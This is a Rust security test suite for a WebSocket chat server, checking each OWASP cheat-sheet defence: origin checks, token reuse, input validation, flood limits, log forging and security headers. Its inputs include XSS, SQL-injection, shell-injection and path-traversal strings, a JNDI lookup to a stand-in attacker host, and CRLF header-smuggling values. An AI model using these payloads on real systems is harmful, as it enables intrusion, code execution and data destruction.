//! The OWASP WebSocket Security Cheat Sheet, line by line, and the attacks that it is about. What only an
//! operator can do is in docs/security.md.

mod common;

use common::{
    Classic, Frame, KEY, Pair, Place, Raw, Request, Server, V1, join, resume, with, within,
};
use serde_json::{Value, json};

const V1_PATH: &str = "/v1/ws";
const PATHS: [&str; 2] = [V1_PATH, "/"];
const PARIS: Place = (48.8566, 2.3522);
const SYDNEY: Place = (-33.8688, 151.2093);

/// What a connection may cost before it has joined, as docs/security.md says.
const WORST_BYTES: usize = 64 * 1024;

/// What the allocator and the system may keep besides.
const SLACK_BYTES: usize = 8 * 1024 * 1024;

const CONNECTIONS: usize = 200;

#[cfg(target_os = "linux")]
fn assert_cost_at_most(server: &Server, before_bytes: usize, each_bytes: usize) {
    let grown = server.resident_bytes().saturating_sub(before_bytes);
    let allowed = CONNECTIONS * each_bytes + SLACK_BYTES;
    println!("{} bytes for each connection", grown / CONNECTIONS);
    assert!(
        grown <= allowed,
        "grown by {grown} bytes, allowed are {allowed}"
    );
}

// Transport and protocol

#[tokio::test]
async fn only_rfc_6455_is_spoken() {
    let server = Server::start(&[]);
    let hixie_76 = Request::get(V1_PATH)
        .with("Connection", "Upgrade")
        .with("Upgrade", "WebSocket")
        .with("Sec-WebSocket-Key1", "18x 6]8vM;54 *(5:  {   U1]8  z [  8")
        .with("Sec-WebSocket-Key2", "1_ tx7X d  <  nw  334J702) 7]o}` 0");
    let mut requests = vec![hixie_76];
    for version in ["0", "4", "7", "8"] {
        requests.push(Request::upgrade(V1_PATH).but("Sec-WebSocket-Version", version));
    }
    for request in requests {
        let (response, _) = request.send(&server).await;
        assert_eq!(response.status, 426);
        assert_eq!(response.header("Sec-WebSocket-Version"), Some("13"));
    }
}

#[tokio::test]
async fn compression_that_is_offered_is_not_taken_up() {
    let server = Server::start(&[]);
    let offers = "permessage-deflate; client_no_context_takeover; server_max_window_bits=15";
    for path in PATHS {
        let request = Request::upgrade(path).with("Sec-WebSocket-Extensions", offers);
        let (response, mut raw) = request.send(&server).await;
        assert_eq!(response.status, 101);
        assert_eq!(response.header("Sec-WebSocket-Extensions"), None);
        if path == V1_PATH {
            raw.expect("welcome").await;
        }
        // And who compresses all the same is told that nobody agreed to it.
        raw.send(&Frame::text("{}").reserved(0b100).bytes()).await;
        assert_eq!(raw.expect_close().await, 1002);
    }
}

// Authentication and authorization

#[tokio::test]
async fn cross_site_hijacking_is_refused_before_the_upgrade() {
    let server = Server::start(&[(
        "security.allowed_origins",
        r#"["https://friend.example", "https://*.friends.example"]"#,
    )]);
    let own = server.address();
    let allowed = [
        format!("http://{own}"),
        "https://friend.example".to_owned(),
        "https://a.friends.example".to_owned(),
    ];
    let foreign = [
        "https://evil.example".to_owned(),
        "http://friend.example".to_owned(),
        "https://friend.example.evil.example".to_owned(),
        "https://evilfriends.example".to_owned(),
        "https://friends.example".to_owned(),
        "https://friends.example@evil.example".to_owned(),
        "null".to_owned(),
        String::new(),
        format!("http://{own}.evil.example"),
    ];
    for path in PATHS {
        for (origins, status) in [(&allowed[..], 101), (&foreign[..], 403)] {
            for origin in origins {
                let request = Request::upgrade(path).with("Origin", origin);
                let (response, _) = request.send(&server).await;
                assert_eq!(response.status, status, "from {origin:?} at {path}");
            }
        }
        let twice = Request::upgrade(path)
            .with("Origin", &allowed[0])
            .with("Origin", "https://evil.example");
        assert_eq!(twice.send(&server).await.0.status, 403);
    }
    server.printed("limit=\"origin\"").await;
}

#[tokio::test]
async fn clients_without_an_origin_can_be_kept_out() {
    let server = Server::start(&[("security.allow_no_origin", "false")]);
    for path in PATHS {
        assert_eq!(Request::upgrade(path).send(&server).await.0.status, 403);
        let own = format!("http://{}", server.address());
        let page = Request::upgrade(path).with("Origin", &own);
        assert_eq!(page.send(&server).await.0.status, 101);
    }
}

#[tokio::test]
async fn a_browser_holds_nothing_that_another_page_could_use() {
    let server = Server::start(&[]);
    let ann = V1::connect(&server).await;
    let (page, _) = Request::get("/").send(&server).await;
    assert_eq!(page.header("Set-Cookie"), None);
    let cookie = format!("session={}", ann.token);
    let request = Request::upgrade(V1_PATH).with("Cookie", &cookie);
    let (response, mut raw) = request.send(&server).await;
    assert_eq!(response.header("Set-Cookie"), None);
    let welcome = raw.expect("welcome").await;
    assert_ne!(welcome["session"], ann.welcome["session"]);
}

#[tokio::test]
async fn a_token_in_a_query_string_resumes_nothing_and_is_not_logged() {
    let server = Server::start(&[("log.level", "trace")]);
    let mut ann = V1::connect(&server).await;
    let token = ann.token.as_str().expect("a string").to_owned();
    let path = format!("{V1_PATH}?resume_token={token}&token={token}");
    let (response, mut raw) = Request::upgrade(&path).send(&server).await;
    if response.status == 101 {
        let welcome = raw.expect("welcome").await;
        assert_ne!(welcome["session"], ann.welcome["session"]);
    }
    ann.expect_quiet().await;
    drop(raw);
    let printed = server.printed("connection ended").await;
    assert!(!printed.contains(&token), "the token was logged");
}

#[tokio::test]
async fn a_token_is_good_for_one_use() {
    let server = Server::start(&[]);
    let spent = V1::connect(&server).await.lose().await;
    let (ann, resumed) = V1::resumed(&server, &spent, 0).await;
    assert_ne!(resumed["resume_token"], spent);
    let mut thief = V1::connect(&server).await;
    thief.refused(resume(&spent, 0), "bad_token").await;
    drop(ann);
}

#[tokio::test]
async fn each_message_is_checked_against_its_own_session() {
    let server = Server::start(&[]);
    let (mut pair, chat) = Pair::in_chat(&server, PARIS).await;
    let mut eve = V1::connect(&server).await;
    for command in [
        json!({"type": "block", "chat": chat}),
        json!({"type": "report", "chat": chat, "reason": "spam"}),
    ] {
        eve.refused(command, "not_found").await;
    }
    for command in [
        json!({"type": "say", "text": "hello"}),
        json!({"type": "typing", "on": true}),
        json!({"type": "ack", "seq": 1}),
        json!({"type": "leave"}),
    ] {
        eve.refused(command, "wrong_state").await;
    }
    pair.expect_undisturbed().await;
}

// Input validation

#[tokio::test]
async fn what_is_said_is_passed_on_as_text_and_nothing_else() {
    let server = Server::start(&[]);
    let mut pair = Pair::chatting(&server, PARIS).await;
    for text in [
        "<script>alert(1)</script><img src=x onerror=alert(1)>",
        "'; DROP TABLE sessions; --",
        "$(reboot) `reboot` | reboot && ../../etc/passwd",
        "{\"type\":\"leave\"}",
        "${jndi:ldap://evil.example/a} {{7*7}} %s%n",
        "\u{0}\u{1b}[2J",
    ] {
        pair.ann.say(text).await;
        pair.bob.expect_said(text).await;
    }
    let (page, _) = Request::get("/").send(&server).await;
    let policy = page.header("Content-Security-Policy").expect("a policy");
    assert!(
        policy.contains("default-src 'none'") && !policy.contains("unsafe"),
        "{policy}"
    );
}

#[tokio::test]
async fn messages_that_are_not_as_described_are_refused() {
    let server = Server::start(&[("limits.errors_per_minute", "1000")]);
    let mut ann = V1::connect(&server).await;
    let deep = format!("{}{}", "[".repeat(2000), "]".repeat(2000));
    for text in ["", "{", "null", "[]", "\"join\"", "eval(1)", &deep] {
        ann.send_text(text).await;
        ann.expect_error("bad_json").await;
    }
    let good = join(PARIS, 10.0);
    for (field, value) in [
        ("position", json!({"lat": 91, "lon": 0})),
        ("position", json!({"lat": "48", "lon": 2})),
        ("position", json!([48, 2])),
        ("range_km", json!(-1)),
        ("range_km", json!(1e300)),
        ("name", json!("x".repeat(33))),
        ("name", json!("ann\u{202e}nna")),
        ("interests", json!(vec!["x"; 9])),
    ] {
        let bad = with(good.clone(), json!({field: value}));
        ann.refused(bad, "bad_field").await;
    }
    ann.refused(json!({"type": "__proto__"}), "unknown_type")
        .await;
    ann.ask(good, "waiting").await;
}

#[tokio::test]
async fn binary_messages_are_refused() {
    let server = Server::start(&[]);
    for path in PATHS {
        let mut raw = Raw::upgraded(&server, path).await;
        raw.send(&Frame::binary(*b"\x89PNG").bytes()).await;
        assert_eq!(raw.expect_close().await, 1003);
    }
}

// Denial of service

#[tokio::test]
async fn connections_are_limited_in_all_and_for_each_address() {
    let server = Server::start(&[
        ("rates.exempt", "[]"),
        ("security.trusted_proxies", r#"["127.0.0.1/32"]"#),
        ("limits.max_connections", "3"),
        ("limits.address_connections", "2"),
    ]);
    let mut held = Vec::new();
    let mut statuses = Vec::new();
    for address in [
        "198.51.100.1",
        "198.51.100.1",
        "198.51.100.1",
        "::2",
        "::3:0:0:0:1",
    ] {
        let request = Request::upgrade(V1_PATH).with("X-Forwarded-For", address);
        let (response, raw) = request.send(&server).await;
        if response.status != 101 {
            assert!(response.header("Retry-After").is_some(), "{response:?}");
        }
        statuses.push(response.status);
        held.push(raw);
    }
    assert_eq!(statuses, [101, 101, 429, 101, 503]);
}

#[tokio::test]
async fn a_flood_of_messages_is_limited() {
    let server = Server::start(&[("rates.exempt", "[]"), ("rates.messages.per_minute", "1")]);
    let mut pair = Pair::chatting(&server, PARIS).await;
    for _ in 0..200 {
        pair.ann.send_text(r#"{"type":"say","text":"flood"}"#).await;
    }
    let (told, code) = pair.ann.drain_until_close().await;
    assert_eq!(code, 4001);
    let of_type = |kind: &str| told.iter().filter(|it| it["type"] == kind).count();
    assert_eq!((of_type("accepted"), of_type("error")), (100, 20));
}

#[cfg(target_os = "linux")]
#[tokio::test]
async fn slowloris_costs_little_time_and_memory() {
    let server = Server::start(&[("limits.request_head_s", "1")]);
    let mut witnesses = Pair::chatting(&server, SYDNEY).await;
    let before_bytes = server.resident_bytes();
    let mut slow = Vec::new();
    for _ in 0..CONNECTIONS {
        let mut raw = Raw::connect(&server).await;
        raw.send(b"GET /v1/ws HTTP/1.1\r\nHost: he").await;
        slow.push(raw);
    }
    assert_cost_at_most(&server, before_bytes, WORST_BYTES);
    witnesses.expect_undisturbed().await;
    for mut raw in slow {
        let answer = raw.read_to_end().await;
        assert!(answer.is_empty() || answer.starts_with(b"HTTP/1.1 408 "));
    }
}

#[cfg(target_os = "linux")]
#[tokio::test]
async fn a_flood_of_headers_is_refused_and_costs_little() {
    let server = Server::start(&[("limits.request_head_s", "60")]);
    let many = (0..200).fold(Request::upgrade(V1_PATH), |request, number| {
        request.with(&format!("X-{number}"), "y")
    });
    let long = Request::upgrade(V1_PATH).with("X-Long", &"y".repeat(20_000));
    let long_path = Request::get(&format!("/{}", "y".repeat(20_000)));
    for request in [many, long, long_path] {
        let (response, _) = request.send(&server).await;
        assert!([414, 431].contains(&response.status), "{response:?}");
    }
    // As much as is taken, without an end.
    let head = format!("GET / HTTP/1.1\r\nX-Long: {}", "y".repeat(15 * 1024));
    let before_bytes = server.resident_bytes();
    let mut raws = Vec::new();
    for _ in 0..CONNECTIONS {
        let mut raw = Raw::connect(&server).await;
        raw.send(head.as_bytes()).await;
        raws.push(raw);
    }
    // Whatever was sent before has been read when this is answered.
    V1::connect(&server).await.settle().await;
    assert_cost_at_most(&server, before_bytes, WORST_BYTES);
}

/// As many as are counted, each with this sent, and read.
async fn all_having_sent(server: &Server, bytes: &[u8]) -> Vec<Raw> {
    let mut raws = Vec::new();
    for number in 0..CONNECTIONS {
        raws.push(Raw::upgraded(server, PATHS[number % 2]).await);
    }
    for raw in &mut raws {
        raw.send(bytes).await;
    }
    raws
}

#[cfg(target_os = "linux")]
#[tokio::test]
async fn a_flood_of_fragments_costs_little() {
    let server = Server::start(&[]);
    let before_bytes = server.resident_bytes();
    let mut fragments = vec![Frame::text("{").unfinished()];
    fragments.extend((0..8000).map(|_| Frame::continuation("a").unfinished()));
    fragments.push(Frame::ping("read"));
    let mut raws = all_having_sent(&server, &Frame::concat(&fragments)).await;
    for raw in &mut raws {
        raw.expect_pong(b"read").await;
    }
    assert_cost_at_most(&server, before_bytes, WORST_BYTES);
    for mut raw in raws.into_iter().take(10) {
        raw.send(&Frame::continuation("a".repeat(200)).unfinished().bytes())
            .await;
        assert_eq!(raw.expect_close().await, 1009);
    }
}

#[cfg(target_os = "linux")]
#[tokio::test]
async fn sizes_that_are_only_claimed_cost_little() {
    let server = Server::start(&[]);
    let before_bytes = server.resident_bytes();
    // The largest that is allowed, all but its last byte, after half a message of fragments.
    let fragment = Frame::text("x".repeat(4096)).unfinished();
    let nearly = Frame::continuation("x".repeat(4095)).claiming(4096);
    let pings = Frame::ping("read");
    let bytes = Frame::concat(&[pings, fragment, nearly]);
    let mut raws = all_having_sent(&server, &bytes).await;
    for raw in &mut raws {
        raw.expect_pong(b"read").await;
    }
    assert_cost_at_most(&server, before_bytes, WORST_BYTES);
    for claim in [8193, 64 << 20, u64::MAX >> 1] {
        let mut raw = Raw::upgraded(&server, V1_PATH).await;
        raw.send(&Frame::text("{").claiming(claim).bytes()).await;
        assert_eq!(raw.expect_close().await, 1009, "{claim} bytes");
    }
}

#[tokio::test]
async fn dead_and_idle_connections_are_ended() {
    let server = Server::start(&[
        ("limits.ping_s", "1"),
        ("limits.pong_s", "1"),
        ("limits.first_message_s", "0.5"),
    ]);
    let mut dead = Raw::upgraded(&server, V1_PATH).await;
    dead.send_text(&join(PARIS, 10.0).to_string()).await;
    let mut idle = Raw::upgraded(&server, V1_PATH).await;
    assert_eq!(idle.expect_close().await, 4101);
    let (pings, code) = dead.stay_silent().await;
    assert!(pings > 0);
    assert_eq!(code, 4201);
}

// Monitoring

#[tokio::test]
async fn nothing_that_people_write_is_logged_or_forges_a_line() {
    const FORGED: &str = "ERROR whisperchat: forged";
    let server = Server::start(&[("log.level", "trace"), ("limits.errors_per_minute", "1000")]);
    let line = format!("\r\n2026-01-01T00:00:00Z {FORGED}");
    let (mut pair, chat) = Pair::in_chat(&server, PARIS).await;
    pair.ann.say(&line).await;
    pair.bob.expect_said(&line).await;
    let report = json!({
        "type": "report", "chat": chat, "reason": "abuse", "note": FORGED,
    });
    pair.ann.ask(report, "reported").await;
    let mut eve = V1::connect(&server).await;
    let named = with(join(SYDNEY, 10.0), json!({"name": line}));
    eve.refused(named, "bad_field").await;
    let named = with(
        join(SYDNEY, 10.0),
        json!({"name": "forged ann", "interests": ["forged"]}),
    );
    eve.ask(named, "waiting").await;
    eve.refused(json!({"type": line}), "unknown_type").await;
    eve.send_text(&line).await;
    eve.expect_error("bad_json").await;
    let mut classic = Classic::connect(&server).await;
    classic.send(&line).await;
    assert_eq!(classic.expect_close().await.0, 1008);
    let mut raw = Raw::upgraded(&server, V1_PATH).await;
    raw.send(&Frame::close_with(4999, FORGED.as_bytes()).bytes())
        .await;
    raw.read_to_end().await;
    let lying = [
        Request::get(&format!("/{}", "forged%0d%0a")),
        Request::upgrade(V1_PATH).with("Origin", &format!("https://{}.example", "forged")),
        Request::upgrade(V1_PATH).with("User-Agent", FORGED),
        Request::upgrade(V1_PATH).but("Sec-WebSocket-Version", "forged"),
    ];
    for request in lying {
        request.send(&server).await;
    }
    drop((pair, eve));
    assert_eq!(Request::get("/").send(&server).await.0.status, 200);
    let printed = server.printed("connection ended").await;
    assert!(!printed.contains("forged"), "{printed}");
}

#[tokio::test]
async fn line_breaks_in_headers_split_nothing() {
    let server = Server::start(&[]);
    for smuggled in [
        "whisperchat.v1.json\rSet-Cookie: a=b",
        "x\0y",
        "whisperchat.v1.json\nX: y",
    ] {
        let mut raw = Raw::connect(&server).await;
        let head = format!(
            "GET {V1_PATH} HTTP/1.1\r\nHost: here\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
             Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: {KEY}\r\n\
             Sec-WebSocket-Protocol: {smuggled}\r\n\r\n"
        );
        raw.send(head.as_bytes()).await;
        let response = raw.read_response().await;
        assert_eq!(response.header("Set-Cookie"), None, "{response:?}");
        let chosen = response.header("Sec-WebSocket-Protocol");
        assert!(
            matches!(chosen, None | Some("whisperchat.v1.json")),
            "{response:?}"
        );
    }
}

#[tokio::test]
async fn violations_are_logged_without_anybody_s_name() {
    let server = Server::start(&[
        ("admin_listen", "off"),
        ("rates.exempt", "[]"),
        ("rates.address.burst", "1"),
        ("rates.address.per_minute", "0.1"),
    ]);
    for _ in 0..50 {
        Request::upgrade(V1_PATH).send(&server).await;
    }
    let printed = server.printed("limit=\"address_rate\"").await;
    let (_, since) = printed
        .split_once("Ctrl-C stops.")
        .unwrap_or(("", &printed));
    assert!(!since.contains("127.0.0.1"), "{since}");
    assert_eq!(
        printed.matches("address_rate").count(),
        1,
        "a flood fills no disk"
    );
}

// Pages

#[tokio::test]
async fn every_answer_keeps_browsers_from_what_it_is_not_for() {
    let server = Server::start(&[("rates.exempt", "[]"), ("rates.address.burst", "1")]);
    let wrong_version = Request::upgrade(V1_PATH).but("Sec-WebSocket-Version", "8");
    let foreign = Request::upgrade(V1_PATH).with("Origin", "https://evil.example");
    let mut requests = vec![
        (Request::get("/"), 200),
        (Request::get("/app.js"), 200),
        (Request::get("/whisperchat.js"), 200),
        (Request::get("/style.css"), 200),
        (Request::get("/icon.svg"), 200),
        (Request::get("/nothing"), 404),
        (Request::get("/").start_line("POST / HTTP/1.1"), 405),
        (Request::get(V1_PATH), 426),
        (wrong_version, 426),
        (foreign, 403),
    ];
    let (first, _held) = Request::upgrade(V1_PATH).send(&server).await;
    assert_eq!(first.status, 101);
    requests.push((Request::upgrade(V1_PATH), 429));
    for (request, status) in requests {
        let (response, _) = request.with("Connection", "close").send(&server).await;
        assert_eq!(response.status, status, "{response:?}");
        let header = |name| response.header(name).unwrap_or_default();
        let policy = header("Content-Security-Policy");
        for directive in [
            "default-src 'none'",
            "script-src 'self'",
            "connect-src 'self'",
            "base-uri 'none'",
            "form-action 'none'",
            "frame-ancestors 'none'",
        ] {
            assert!(policy.contains(directive), "{directive} in {response:?}");
        }
        assert_eq!(header("X-Content-Type-Options"), "nosniff");
        assert_eq!(header("X-Frame-Options"), "DENY");
        assert_eq!(header("Referrer-Policy"), "no-referrer");
        let permissions = header("Permissions-Policy");
        assert!(permissions.contains("geolocation=(self)"), "{permissions}");
        assert!(permissions.contains("camera=()"), "{permissions}");
        assert_eq!(header("Cross-Origin-Opener-Policy"), "same-origin");
        assert_eq!(header("Cross-Origin-Resource-Policy"), "same-origin");
    }
}

#[tokio::test]
async fn the_page_needs_nothing_that_its_policy_forbids() {
    let server = Server::start(&[]);
    let mut sources = Vec::new();
    for path in ["/", "/app.js", "/whisperchat.js"] {
        let request = Request::get(path).with("Connection", "close");
        let (_, mut raw) = request.send(&server).await;
        sources.push(String::from_utf8(raw.read_to_end().await).expect("it is text"));
    }
    let [page, scripts @ ..] = &sources[..] else {
        unreachable!("three were asked for");
    };
    for inline in [
        "<style",
        " style=",
        " onclick=",
        " onload=",
        "javascript:",
        "<iframe",
    ] {
        assert!(!page.contains(inline), "{inline}");
    }
    for tag in page.split("<script").skip(1) {
        assert!(
            tag.contains("src=\"/"),
            "a script of its own file: {tag:.60}"
        );
    }
    for evaluated in [
        "eval(",
        "new Function",
        "innerHTML",
        "document.write",
        "insertAdjacentHTML",
    ] {
        let is_evaluated = scripts.iter().any(|script| script.contains(evaluated));
        assert!(!is_evaluated, "{evaluated}");
    }
    assert!(
        !scripts[0].contains("WebSocket("),
        "the page itself opens no connection"
    );
}

#[tokio::test]
async fn everything_goes_on_after_all_that() {
    let server = Server::start(&[]);
    let mut witnesses = Pair::chatting(&server, PARIS).await;
    for (number, garbage) in [
        &b"\x16\x03\x01\x02\x00\x01"[..],
        b"\0\0\0\0\r\n\r\n",
        b"SSH-2.0-x\r\n",
    ]
    .into_iter()
    .enumerate()
    {
        let mut raw = Raw::connect(&server).await;
        raw.send(garbage).await;
        let answer = within("an end", async { raw.read_to_end().await }).await;
        assert!(
            answer.is_empty() || answer.starts_with(b"HTTP/1.1 400 "),
            "{number}"
        );
    }
    witnesses.expect_undisturbed().await;
    let welcome: Value = V1::connect(&server).await.welcome;
    assert_eq!(welcome["protocol"], 1);
}
